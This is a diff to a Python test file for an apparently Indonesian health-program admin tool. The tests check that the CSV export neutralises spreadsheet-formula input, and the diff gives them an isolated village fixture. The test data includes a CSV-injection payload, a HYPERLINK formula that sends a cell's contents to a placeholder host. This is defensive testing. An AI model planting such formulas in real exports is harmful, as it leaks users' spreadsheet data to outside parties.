@@ -14,8 +14,6 @@ from server.exports.render import neutralise
 from tests.admin.helpers import AdminBrowser, create, kader_device
 from tests.conftest import GEROKGAK, LiveServer, Store
 
-DESA = "51.08.01.2013"  # Gerokgak's Sanggalangit: only this test writes there
-
 HOSTILE = {
     "equals": '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
     "plus": "+1+1",
@@ -33,8 +31,13 @@ BENIGN = ["Jalan dusun rusak", "e-mail kader", "100 m - 200 m", "'sudah dikutip"
 
 
 @pytest.fixture(scope="module")
-def typed(server: LiveServer, store: Store) -> dict[str, uuid.UUID]:
-    cadre = kader_device(server, store, DESA)
+def desa(store: Store) -> str:
+    return store.new_desa(GEROKGAK)  # a desa of its own: the lists hold only what these tests typed
+
+
+@pytest.fixture(scope="module")
+def typed(server: LiveServer, store: Store, desa: str) -> dict[str, uuid.UUID]:
+    cadre = kader_device(server, store, desa)
     return {text: create(cadre, "pengkajian", jenis="masalah", uraian=text, penyebab=text)
             for text in [*HOSTILE.values(), *BENIGN]}
 
@@ -44,15 +47,15 @@ def admin(server: LiveServer, store: Store) -> AdminBrowser:
     return AdminBrowser.new(server, store, GEROKGAK)
 
 
-def listed(admin: AdminBrowser, **params: object) -> dict[str, dict[str, object]]:
-    r = admin.http.get("/admin/api/tables/pengkajian/", params={"desa_code": DESA, **params})
+def listed(admin: AdminBrowser, desa: str, **params: object) -> dict[str, dict[str, object]]:
+    r = admin.http.get("/admin/api/tables/pengkajian/", params={"desa_code": desa, **params})
     assert r.status_code == 200, r.text[:300]
     return {row["id"]: row for row in r.json()["rows"]}
 
 
-def test_the_export_buttons_rows_hold_no_formula(admin: AdminBrowser, typed: dict[str, uuid.UUID]) -> None:
+def test_the_export_buttons_rows_hold_no_formula(admin: AdminBrowser, typed: dict[str, uuid.UUID], desa: str) -> None:
     # As CSVModal.vue asks: the filters, then __page_size=1000, __readable=true, __page=n.
-    rows = listed(admin, __page_size=1000, __readable="true", __page=1)
+    rows = listed(admin, desa, __page_size=1000, __readable="true", __page=1)
     for text, record in typed.items():
         row = rows[str(record)]
         assert row["uraian"] == row["penyebab"] == neutralise(text), (text, row["uraian"])
@@ -63,9 +66,9 @@ def test_the_export_buttons_rows_hold_no_formula(admin: AdminBrowser, typed: dic
         assert rows[str(typed[text])]["uraian"] == text
 
 
-def test_the_list_screen_shows_the_text_as_typed(admin: AdminBrowser, typed: dict[str, uuid.UUID]) -> None:
+def test_the_list_screen_shows_the_text_as_typed(admin: AdminBrowser, typed: dict[str, uuid.UUID], desa: str) -> None:
     # As the list screen asks (store.ts fetchRows): __readable=true with the chosen page size (5–100).
-    rows = listed(admin, __readable="true", __page_size=100, __page=1)
+    rows = listed(admin, desa, __readable="true", __page_size=100, __page=1)
     for text, record in typed.items():
         assert rows[str(record)]["uraian"] == text
 
